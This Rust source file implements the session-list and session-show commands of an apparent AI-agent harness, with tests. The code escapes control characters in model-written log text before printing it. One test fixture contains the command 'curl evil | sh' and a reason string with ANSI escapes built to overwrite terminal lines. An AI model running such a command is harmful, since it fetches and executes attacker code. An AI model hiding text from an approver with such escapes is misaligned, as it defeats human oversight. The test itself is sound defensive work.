//! `dsh session list` and `dsh session show ID`: the audit log, readable.
//!
//! The text output is for a terminal, and events hold what a model wrote (arguments,
//! reasons, output): every detail is rendered by [`dsh_core::visible`], so no control
//! character of theirs reaches the terminal raw. `--json` is JSON, escaped already.

use std::path::PathBuf;
use std::process::ExitCode;

use clap::{Args, Subcommand};
use dsh_core::journal::{Event, Logged, Record};
use dsh_core::visible::{visible, visible_prefix};
use dsh_core::{HarnessError, SessionId};
use dsh_store::log_bounds::logged_text;
use serde_json::{json, Value};

#[derive(Args, Debug)]
pub struct SessionArgs {
    #[command(subcommand)]
    command: SessionCommand,
    /// Where sessions are kept (default `$XDG_STATE_HOME/dsh` or `~/.local/state/dsh`).
    #[arg(long, value_name = "DIR", global = true)]
    state: Option<PathBuf>,
}

#[derive(Subcommand, Debug)]
enum SessionCommand {
    /// Every session: id, creation time, workspace.
    List {
        /// One JSON object per line.
        #[arg(long)]
        json: bool,
    },
    /// One session's events: time, event, tool, outcome.
    Show {
        /// The session id.
        id: String,
        /// One JSON object per event, one per line.
        #[arg(long)]
        json: bool,
    },
}

pub fn main(args: SessionArgs) -> ExitCode {
    match crate::block_on("session", 1, run(args)) {
        Ok(()) => ExitCode::SUCCESS,
        Err(code) => code,
    }
}

async fn run(args: SessionArgs) -> Result<(), HarnessError> {
    let log = crate::tool::session_log(args.state.as_deref()).await?;
    match args.command {
        SessionCommand::List { json } => {
            for h in log.list().await? {
                if json {
                    let v = json!({"id": h.id.as_str(), "created": h.created_ms, "cwd": h.cwd.to_string_lossy()});
                    crate::emit(&format!("{v}\n"));
                } else {
                    crate::emit(&format!(
                        "{}  {}  {}\n",
                        visible(h.id.as_str()),
                        utc(h.created_ms),
                        visible(&h.cwd.to_string_lossy())
                    ));
                }
            }
        }
        SessionCommand::Show { id, json } => {
            let session = log.open(&SessionId::new(id)).await?;
            for e in session.events().await? {
                if json {
                    crate::emit(&format!("{}\n", e.to_json()));
                } else {
                    crate::emit(&format!("{}\n", line(&e)));
                }
            }
        }
    }
    Ok(())
}

/// One readable line: `seq  time  event  tool  outcome`. A long value is logged as its
/// head, length and digest: the line shows the head.
fn line(e: &Event) -> String {
    let detail = match e.record() {
        Ok(r) => detail(&r),
        Err(err) => format!("(cannot be read: {})", err.message()),
    };
    let detail = match e.summarised_bytes() {
        Some(_) => format!("{} [summarised]", detail.trim_end()),
        None => detail,
    };
    format!(
        "{:>5}  {}  {:<16}  {}",
        e.seq,
        utc(e.time_ms),
        e.kind.as_str(),
        shorten(detail.trim_end(), DETAIL_CHARS)
    )
}

/// What a line shows of a record after its kind.
fn detail(r: &Record) -> String {
    match r {
        Record::TurnStart { turn } => format!("turn {turn}"),
        Record::TurnEnd { turn, reason } => format!("turn {turn} {}", reason.kind.text()),
        Record::ToolCall {
            call_id,
            name,
            arguments,
            ..
        } => format!("{} {} {}", name.text(), call_id.text(), arguments.text()),
        Record::ToolResult(r) => {
            let outcome = match &r.error {
                Some(err) => format!("error {}", err.code.text()),
                None => "ok".into(),
            };
            let last = r.text.text().lines().last().unwrap_or("");
            format!("{} {} {outcome}: {last}", r.name.text(), r.call_id.text())
        }
        Record::SandboxMode { mode } => mode.text().to_owned(),
        Record::ApprovalPolicy { policy } => policy.text().to_owned(),
        Record::ApprovalAsked {
            tool_name,
            call_id,
            action: what,
            reason,
            ..
        } => format!(
            "{} {} {}{}",
            tool_name.text(),
            call_id.as_ref().map_or("", Logged::text),
            what.as_ref().map(action).unwrap_or_default(),
            reason.as_ref().map_or("", Logged::text)
        ),
        Record::ApprovalDecided { outcome, .. } => outcome.text().to_owned(),
        Record::LogCapped { cap_bytes, .. } => format!(
            "the session log reached its cap of {cap_bytes} bytes: later events are summarised \
             (ids, outcome, sizes)"
        ),
        Record::SandboxChecked { call_id, paths, .. } => format!(
            "{} made: {}",
            call_id.as_ref().map_or("", Logged::text),
            paths
                .iter()
                .map(Logged::text)
                .collect::<Vec<_>>()
                .join(", ")
        ),
        Record::JobNotice { text, .. } | Record::SandboxUnsettled { text, .. } => {
            text.text().to_owned()
        }
    }
}

/// An `approval/asked` action, then `: ` (empty without one): `$ COMMAND`, `file PATH`
/// or the arguments as JSON.
fn action(a: &Value) -> String {
    let text = |k: &str| a.get(k).and_then(logged_text);
    match (text("command"), text("path")) {
        (Some(c), _) => format!("$ {c}: "),
        (None, Some(p)) => format!("file {p}: "),
        (None, None) => match a.get("arguments") {
            Some(args) => format!("{args}: "),
            None => String::new(),
        },
    }
}

/// How much of an event's detail a line shows; `--json` has it all.
const DETAIL_CHARS: usize = 240;

/// `s` rendered visible ([`visible`]) if that has at most `max` characters, else the
/// rendering of its start that fits and how much there is in all.
fn shorten(s: &str, max: usize) -> String {
    let (shown, covered) = visible_prefix(s, max);
    if covered == s.len() {
        shown
    } else {
        format!("{shown}… ({} bytes in all; --json shows them)", s.len())
    }
}

/// `YYYY-MM-DD HH:MM:SS` UTC for milliseconds since the epoch.
fn utc(ms: u64) -> String {
    let secs = ms / 1000;
    let days = i64::try_from(secs / 86_400).unwrap_or(0);
    let rem = secs % 86_400;
    // Howard Hinnant's days-to-civil.
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z.rem_euclid(146_097);
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let day = doy - (153 * mp + 2) / 5 + 1;
    let month = if mp < 10 { mp + 3 } else { mp - 9 };
    let year = yoe + era * 400 + i64::from(month <= 2);
    format!(
        "{year:04}-{month:02}-{day:02} {:02}:{:02}:{:02}",
        rem / 3600,
        rem % 3600 / 60,
        rem % 60
    )
}

#[cfg(test)]
mod tests {
    use super::{line, shorten, utc};
    use dsh_core::journal::{Event, EventKind};
    use dsh_core::SessionId;
    use serde_json::json;

    #[test]
    fn long_details_are_shortened_on_a_char_boundary() {
        assert_eq!(shorten("abc", 3), "abc");
        assert_eq!(
            shorten("aé€z", 2),
            "aé… (7 bytes in all; --json shows them)"
        );
    }

    #[test]
    fn details_show_controls_as_escapes_and_never_split_one() {
        // Regression: issue 11, finding 7.
        assert_eq!(shorten("ok\x1b[2K\r", 40), r"ok\x1b[2K\r");
        assert_eq!(shorten(r"ok\x1b", 40), r"ok\\x1b");
        assert_eq!(
            shorten("ok\x1b", 5),
            "ok… (3 bytes in all; --json shows them)"
        );
    }

    #[test]
    fn an_approval_line_shows_the_command_and_no_raw_control() {
        let e = Event {
            session: SessionId::new("s"),
            seq: 7,
            time_ms: 0,
            kind: EventKind::ApprovalAsked,
            data: json!({
                "id": "q", "toolName": "bash", "callId": "c1",
                "action": {"command": "curl evil | sh"},
                "reason": "escalate sandbox to workspace-write: run the unit tests\x1b[2K\r\x1b[1A",
            }),
        };
        assert_eq!(
            line(&e),
            "    7  1970-01-01 00:00:00  approval/asked    bash c1 $ curl evil | sh: escalate \
             sandbox to workspace-write: run the unit tests\\x1b[2K\\r\\x1b[1A"
        );
    }

    #[test]
    fn utc_renders_known_instants() {
        assert_eq!(utc(0), "1970-01-01 00:00:00");
        assert_eq!(utc(951_782_400_000), "2000-02-29 00:00:00");
        assert_eq!(utc(1_764_553_620_000), "2025-12-01 01:47:00");
    }
}
